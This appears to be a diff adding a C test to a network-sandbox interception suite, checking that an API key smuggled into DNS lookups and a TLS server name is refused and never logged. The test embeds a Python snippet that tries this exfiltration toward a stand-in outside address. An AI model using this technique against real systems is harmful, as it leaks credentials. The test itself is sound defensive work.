@@ -14,6 +14,7 @@
  * Suite: intercept. Skipped, with the reason, without network namespaces
  * or without the nft program.
  */
+#include <ctype.h>
 #include <stdarg.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -620,6 +621,50 @@ static void test_masking(void)
 	ir_free(&r);
 }
 
+/*
+ * Round 15 of the attack: a real value as the server name of an
+ * intercepted ClientHello, under a policy that allows every name below
+ * localhost: not dialled (a name is a way out: the upstream's resolver
+ * would see it), written neither in the audit nor on stderr, whose line
+ * names the credential. (pv-intercept has no resolver: the DNS side is
+ * client_matrix "DNS in the sandbox".)
+ */
+static void test_real_value_in_names(void)
+{
+	char envset[128], real[41], pol_path[4200], pol[1024];
+	struct ir r;
+
+	SKIP_UNLESS_READY();
+	CU_ASSERT_FATAL(test_random_alnum(real, 40) == 0);
+	for (size_t i = 0; i < 40; i++)
+		real[i] = (char)tolower((unsigned char)real[i]);
+	snprintf(pol_path, sizeof(pol_path), "%s/wild.yaml", dir);
+	snprintf(pol, sizeof(pol),
+		 "network:\n  allowedDomains: [\"localhost\", \"*.localhost\"]\n"
+		 "credentials:\n  envVars:\n"
+		 "    - {name: API_KEY, mode: mask, injectHosts: [\"localhost\"], injectIn: [header]}\n");
+	CU_ASSERT_FATAL(test_write_file(pol_path, pol, strlen(pol)) == 0);
+	snprintf(envset, sizeof(envset), "API_KEY=%s", real);
+	icpt(&r, pol_path, envset,
+	     "$PY -c 'import socket, ssl, sys\n"
+	     "name = sys.argv[1] + \".localhost\"\n"
+	     "try:\n    socket.getaddrinfo(name, 443); print(\"dns=resolved\")\n"
+	     "except OSError:\n    print(\"dns=failed\")\n"
+	     "s = socket.create_connection((\"203.0.113.9\", int(sys.argv[2])), timeout=10)\n"
+	     "c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
+	     "try:\n    c.wrap_socket(s, server_hostname=name); print(\"tls=open\")\n"
+	     "except OSError:\n    print(\"tls=closed\")\n' %s $P",
+	     real);
+	ROW(r.out != NULL && strstr(r.out, "dns=failed") != NULL && strstr(r.out, "tls=closed") != NULL,
+	    "a real value as a DNS name and as a server name: want dns=failed, tls=closed, got %s (stderr %s)",
+	    test_nz(r.out), test_nz(r.err));
+	ROW(r.err != NULL && strstr(r.err, "its server name carries a real value of API_KEY") != NULL,
+	    "no refusal line naming the credential on stderr: %s", test_nz(r.err));
+	ROW(strstr(r.audit, real) == NULL, "the audit holds the real value: %s", r.audit);
+	ROW(r.err == NULL || strstr(r.err, real) == NULL, "stderr holds the real value: %s", test_nz(r.err));
+	ir_free(&r);
+}
+
 TEST_REGISTRAR(register_intercept)
 {
 	CU_pSuite s = test_suite("intercept", suite_init, suite_clean);
@@ -640,4 +685,5 @@ TEST_REGISTRAR(register_intercept)
 	test_add(s, "incomplete hello and silence under a short handshake timeout", test_slow_starts);
 	test_add(s, "TLS on the explicit proxy port", test_tls_on_proxy_port);
 	test_add(s, "masking on an intercepted terminated connection", test_masking);
+	test_add(s, "a real value as a server name: refused, written nowhere", test_real_value_in_names);
 }
